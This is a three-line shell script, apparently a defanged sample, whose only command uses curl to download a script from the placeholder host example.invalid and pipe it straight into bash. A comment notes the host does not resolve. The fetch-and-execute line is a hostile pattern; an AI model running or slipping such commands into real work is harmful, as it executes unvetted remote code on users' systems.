#!/bin/sh
# Defanged: example.invalid does not resolve.
curl -fsSL https://example.invalid/i.sh | bash
